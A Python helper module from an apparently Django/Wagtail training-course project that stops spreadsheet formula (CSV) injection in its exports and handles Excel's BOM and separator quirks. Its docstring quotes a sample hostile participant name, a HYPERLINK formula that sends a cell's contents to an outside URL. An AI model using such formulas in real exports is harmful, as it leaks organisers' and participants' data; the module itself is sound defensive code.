"""User text written to spreadsheets stays text: the one helper every .xlsx and .csv export uses.

A cell whose text starts with = + - @ (or a tab / carriage return, which some spreadsheet programs
strip before reading the rest as a formula) would run as a formula on the organiser's computer, e.g.
a participant named `=HYPERLINK("http://…?d="&D3,"Alice")`. Such text gets a leading apostrophe
(the OWASP "CSV injection" advice; Excel and LibreOffice show it as plain text). Numbers, dates and
booleans are written as they are, so a negative number in a numeric column stays a number. A phone
number ("+996 555 12-34-56": a plus, digits, spaces, dashes, brackets, nothing a formula could call) is
written as it is: in a CSV the apostrophe would be part of the data for every program but Excel, and in
an .xlsx the cell is typed as text anyway.

CSV files start with a UTF-8 BOM (Excel otherwise reads Cyrillic as Windows-1251) and use the separator
`csv_delimiter(request)` picks: `?sep=semicolon` or `?sep=comma`, else `;` for Kyrgyz and Russian (Excel
in those locales splits columns on `;`, its list separator) and `,` for English.

Every export is listed in `EXPORTS` below; tests/hardening/test_export_formulas.py runs each one with
hostile names and fails when a module writes a spreadsheet without being listed here.
"""

import csv
import datetime
import decimal
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PHONE = re.compile(r"^\+\d[\d ()\-]{5,30}$")
BOM = "\ufeff"
SEPARATORS = {"semicolon": ";", "comma": ","}
SEMICOLON_LANGUAGES = ("ky", "ru")


def csv_delimiter(request=None, language=None):
    """`;` or `,`: the `sep` query parameter when given, else what Excel expects in the reader's language."""
    from django.utils import translation

    chosen = request.GET.get("sep") if request is not None else None
    if chosen in SEPARATORS:
        return SEPARATORS[chosen]
    language = language or translation.get_language() or ""
    return ";" if language.split("-")[0] in SEMICOLON_LANGUAGES else ","

# Every spreadsheet export of the project: "module: what" (the test checks this list is complete).
EXPORTS = {
    "courses.services.roster": "session roster (.xlsx)",
    "courses.services.imports.report": "import report (.csv)",
    "certificates.admin_views": "certificate registry (.xlsx, .csv through Wagtail's list export)",
    "reports.exports": "reports and the participant list (.xlsx, .csv)",
}


def safe_text(value):
    """`value` as a string that no spreadsheet reads as a formula."""
    text = str(value)
    if PHONE.match(text):
        return text
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_cell(value):
    """A cell value: numbers, dates and booleans unchanged, None empty, anything else neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal | datetime.date | datetime.time):
        return value
    return safe_text(value)


def safe_row(values):
    return [safe_cell(value) for value in values]


def write_only_cell(sheet, value):
    """A WriteOnlyCell holding `safe_cell(value)`, typed as a string when it is text (never "f")."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=safe_cell(value))
    if cell.data_type == "f":  # cannot happen after safe_cell; kept as a second lock
        cell.data_type = "s"
    return cell


def csv_writer(handle, **options):
    """A csv.writer whose `writerow` neutralises every field."""
    return _SafeWriter(csv.writer(handle, **options))


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, values):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class SafeExportMixin:
    """For Wagtail index views with `list_export`: every exported text value goes through `safe_cell`
    (Wagtail's own .xlsx writer already stops formulas, its .csv writer does not)."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return safe_cell(value) if isinstance(value, str) else value

    def stream_csv(self, queryset):
        # Wagtail writes neither a BOM nor a charset, and always commas: Excel in ky/ru then shows
        # one column of mojibake.
        from wagtail.admin.views.mixins import Echo

        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, delimiter=self._csv_delimiter)
        yield BOM.encode() + writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def write_csv_response(self, queryset):
        # Chosen now: the rows are written while the response streams, after the request's language is gone.
        self._csv_delimiter = csv_delimiter(self.request)
        response = super().write_csv_response(queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response
